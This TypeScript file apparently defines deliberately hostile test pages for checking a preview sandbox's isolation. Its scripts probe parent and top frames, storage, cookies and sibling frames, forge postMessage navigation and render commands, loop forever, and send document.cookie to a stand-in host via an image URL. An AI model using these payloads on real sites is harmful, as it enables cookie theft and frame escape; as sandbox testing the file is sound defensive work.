// Pages of the preview's lab that try to reach what is not theirs.
import { html, type Handler } from '../reply.ts';

export const hostileRoutes: Record<string, Handler> = {
  '/hostile': () =>
    html(`<p id="out"></p><script>
      const out = [];
      const attempt = (name, act) => { try { out.push(name + ': ' + act()); } catch (error) { out.push(name + ': ' + error.name); } };
      attempt('parent', () => parent.document.title);
      attempt('top', () => top.document.title);
      attempt('storage', () => localStorage.getItem('course'));
      attempt('native storage', () => Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window).length);
      attempt('database', () => { indexedDB.open('roundtrip-progress'); return 'opened'; });
      attempt('origin', () => origin);
      attempt('cookie', () => document.cookie);
      attempt('frames', () => parent.parent.frames.length + parent.frames[0].document.title);
      attempt('sibling', () => [...Array(top.length).keys()].map((at) => top[at].document.title).join());
      attempt('opener', () => String(opener));
      attempt('worker', () => { navigator.serviceWorker.getRegistrations(); return 'asked'; });
      attempt('broadcast', () => { new BroadcastChannel('course').postMessage('x'); return 'sent to nobody'; });
      top.postMessage({ type: 'from-page', message: { type: 'navigate', href: 'http://localhost:3000/about', method: 'GET' } }, '*');
      parent.postMessage({ type: 'passed', everything: true }, '*');
      parent.postMessage({ type: 'navigate', href: '/about', method: 'DELETE' }, '*');
      parent.postMessage({ type: 'render', html: 'forged', title: '' }, '*');
      parent.postMessage(null, '*');
      try { top.location = 'about:blank'; } catch (error) { out.push('top.location: ' + error.name); }
      document.querySelector('#out').textContent = out.join('\\n');
      const say = (line) => { document.querySelector('#out').textContent += '\\n' + line; };
      (async () => {
        await (async () => caches.open('x'))().then(() => say('caches: opened'), (error) => say('caches: ' + error.name));
        for (const address of [document.baseURI.replace('localhost:3000', 'localhost'), 'https://example.org/']) {
          if (address) await fetch(address).then(() => say('fetch: reached ' + address), (error) => say('fetch: refused'));
        }
        const frame = document.createElement('iframe'); document.body.append(frame);
        const native = frame.contentWindow;
        await (async () => native.fetch('https://example.org/'))().then(() => say('native fetch: reached'), () => say('native fetch: refused'));
        try { say('native dialog: ' + native.confirm('Stuck?')); } catch (error) { say('native dialog: ' + error.name); }
        const image = new Image(); image.onload = () => say('image: reached'); image.onerror = () => say('image: refused');
        image.setAttributeNS(null, 'src', 'https://example.org/steal.png?' + document.cookie);
      })();
    </script>`),
  '/spin-later': () => html('<h1>Spins later</h1><button onclick="while (true) {}">Spin</button>'),
  '/spin': () => html('<h1>Spins</h1><script>while (true) {}</script>'),
  '/escape': () =>
    html(`<script>const { location: here } = window; here.href = 'https://example.org/?stolen';</script>`),
};
